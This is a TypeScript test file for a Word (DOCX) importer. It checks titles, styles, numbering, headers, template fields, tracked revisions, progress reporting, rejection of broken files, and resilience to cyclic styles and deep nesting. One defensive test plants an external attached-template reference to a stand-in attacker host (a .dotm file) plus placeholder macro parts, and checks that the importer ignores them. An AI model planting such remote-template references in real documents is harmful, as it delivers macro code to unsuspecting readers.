import { describe, expect, it } from 'vitest';
import type { Block } from '#app/document/model.ts';
import { numberBlocks } from '#app/document/numbering/number-blocks.ts';
import type { ImportedDocument } from '../imported.ts';
import type { ImportMeans } from '../importer.ts';
import { type DocxParts, docxOf } from '#tests/support/word/docx-of.ts';
import { importDocx } from './import-docx.ts';

const MEANS: ImportMeans = {
  choices: { revisions: 'accept', comments: 'take', marks: 'fields' },
  language: 'pt-BR',
};

const read = (parts: DocxParts, more: Partial<ImportMeans> = {}): Promise<ImportedDocument> =>
  importDocx(docxOf(parts), { ...MEANS, ...more });

const run = (text: string, look = ''): string =>
  `<w:r><w:rPr>${look}</w:rPr><w:t xml:space="preserve">${text}</w:t></w:r>`;
const paragraph = (text: string, properties = ''): string =>
  `<w:p><w:pPr>${properties}</w:pPr>${run(text)}</w:p>`;

const wordsOf = (blocks: readonly Block[]): string[] =>
  blocks.flatMap((block) =>
    block.kind === 'paragraph' || block.kind === 'heading'
      ? [block.inlines.map((inline) => (inline.kind === 'text' ? inline.text : `<${inline.kind}>`)).join('')]
      : [],
  );

const reasonOf = (reading: Promise<unknown>): Promise<unknown> =>
  reading.then(
    () => 'read',
    (error: unknown) => (error instanceof Error ? error.message : error),
  );

describe('a Word file', () => {
  it('T13 becomes a document with its title, language, styles, numbers, header and fields', async () => {
    const { title, model, fields, remarks } = await read({
      title: ' Contrato  de prestação ',
      styles: `<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Arial"/><w:sz w:val="24"/><w:lang w:val="pt-PT"/></w:rPr></w:rPrDefault></w:docDefaults>
        <w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/><w:pPr><w:jc w:val="both"/></w:pPr></w:style>
        <w:style w:type="paragraph" w:styleId="Ttulo1"><w:name w:val="heading 1"/><w:basedOn w:val="Normal"/><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr><w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:b/></w:rPr></w:style>
        <w:style w:type="paragraph" w:customStyle="1" w:styleId="Alnea"><w:name w:val="Alínea"/><w:basedOn w:val="Normal"/><w:pPr><w:ind w:left="720"/></w:pPr></w:style>`,
      numbering: `<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:pStyle w:val="Ttulo1"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>`,
      edges: { h1: { kind: 'header', content: paragraph('Cabeçalho') } },
      body: `${paragraph('Do objeto', '<w:pStyle w:val="Ttulo1"/>')}${paragraph('Entre {{cliente}} e nós.')}${paragraph('a casa', '<w:pStyle w:val="Alnea"/>')}${paragraph('Do preço', '<w:pStyle w:val="Ttulo1"/>')}<w:sectPr><w:headerReference w:type="default" r:id="h1"/></w:sectPr>`,
    });
    expect(title).toBe('Contrato de prestação');
    expect(model).toMatchObject({ title, language: 'pt-PT' });
    expect(wordsOf(model.body)).toEqual(['Do objeto', 'Entre <field> e nós.', 'a casa', 'Do preço']);
    expect(wordsOf(model.header)).toEqual(['Cabeçalho']);
    expect([...numberBlocks(model.body).values()]).toEqual(['1.', '2.']);
    expect(model.styles?.get('normal')).toMatchObject({
      text: { size: 16 },
      paragraph: { align: 'justify' },
    });
    expect(model.styles?.get('Alnea')).toEqual({
      name: 'Alínea',
      basedOn: 'normal',
      text: {},
      paragraph: { format: { left: 48 } },
    });
    expect(model.body[0]).toMatchObject({ kind: 'heading', level: 1, style: { bold: true, size: 16 } });
    expect(fields.map(({ field, uses }) => [field.name, uses])).toEqual([['cliente', 1]]);
    expect(remarks).toEqual([]);
  });

  it('T13 a number that no scheme writes is the beginning of its paragraph', async () => {
    const { model, remarks } = await read({
      numbering: `<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimalZero"/><w:lvlText w:val="%1"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>`,
      body: paragraph('um', '<w:numPr><w:numId w:val="1"/></w:numPr>'),
    });
    expect(wordsOf(model.body)).toEqual(['01<tab>um']);
    expect(remarks).toEqual([{ code: 'number-as-text', count: 1, samples: ['01'] }]);
  });

  it('T13 macros and fonts are left out, and nothing outside the file is asked for', async () => {
    const { model, remarks } = await read({
      body: paragraph('x'),
      relationships:
        '<Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.test/x.dotm" TargetMode="External"/>',
      others: { 'word/vbaProject.bin': 'x', 'word/fonts/font1.odttf': 'x' },
    });
    expect(wordsOf(model.body)).toEqual(['x']);
    expect(remarks.map(({ code }) => code)).toEqual(['macro', 'embedded-font']);
  });

  it('T13 changes of others are suggestions to the document without them', async () => {
    const change = (kind: string, text: string) =>
      `<w:${kind} w:id="1" w:author="Ana" w:date="2026-01-02T03:04:05Z"><w:r>${kind === 'del' ? `<w:delText>${text}</w:delText>` : `<w:t>${text}</w:t>`}</w:r></w:${kind}>`;
    const parts = {
      body: `<w:p>${run('prazo de ')}${change('del', '10')}${change('ins', '20')}${run(' dias')}</w:p>`,
    };
    const choices = { ...MEANS.choices, revisions: 'suggest' } as const;
    const { model, suggestions, revisions } = await read(parts, { choices });
    expect(wordsOf(model.body)).toEqual(['prazo de 10 dias']);
    expect(revisions).toBe(2);
    expect(
      suggestions.map(({ author, base, proposed }) => [author, wordsOf(base), wordsOf(proposed)]),
    ).toEqual([['Ana', ['prazo de 10 dias'], ['prazo de 20 dias']]]);
  });

  it('T13 says how much is read', async () => {
    const told: number[] = [];
    await read({ body: paragraph('x').repeat(500) }, { onProgress: (done) => told.push(done) });
    expect(told.length).toBeGreaterThan(5);
    expect(told).toEqual([...told].sort((a, b) => a - b));
    expect(told.at(-1)).toBe(1);
  });

  it.each([
    ['broken', { 'word/document.xml': '<x' }],
    ['unknown-format', { 'word/document.xml': '<workbook/>' }],
    [
      'broken',
      {
        'word/document.xml':
          '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
      },
    ],
    ['read', { 'word/styles.xml': '<none/>' }],
    ['read', { 'docProps/core.xml': '<x' }],
  ])('T13 a file that is no document is %s', async (reason, others) => {
    expect(await reasonOf(read({ body: paragraph('x'), title: 't', others }))).toBe(reason);
  });

  it('T13 500 styles and lists that lead to one another, and elements 500 deep, are read', async () => {
    const ids = Array.from({ length: 500 }, (_, at) => at);
    const { model } = await read({
      styles: ids
        .map(
          (at) =>
            `<w:style w:type="paragraph" w:styleId="s${at}"><w:name w:val="s${at}"/><w:basedOn w:val="s${(at + 1) % 500}"/><w:pPr><w:numPr><w:numId w:val="${at + 1}"/></w:numPr></w:pPr></w:style>`,
        )
        .join(''),
      numbering: ids
        .map(
          (at) =>
            `<w:abstractNum w:abstractNumId="${at}"><w:numStyleLink w:val="s${(at + 1) % 500}"/></w:abstractNum>`,
        )
        .concat(ids.map((at) => `<w:num w:numId="${at + 1}"><w:abstractNumId w:val="${at}"/></w:num>`))
        .join(''),
      body:
        ids.map((at) => paragraph(String(at), `<w:pStyle w:val="s${at}"/>`)).join('') +
        `${'<w:smartTag>'.repeat(490)}${paragraph('fundo')}${'</w:smartTag>'.repeat(490)}`,
    });
    expect(wordsOf(model.body)).toEqual([...ids.map(String), 'fundo']);
  });
});
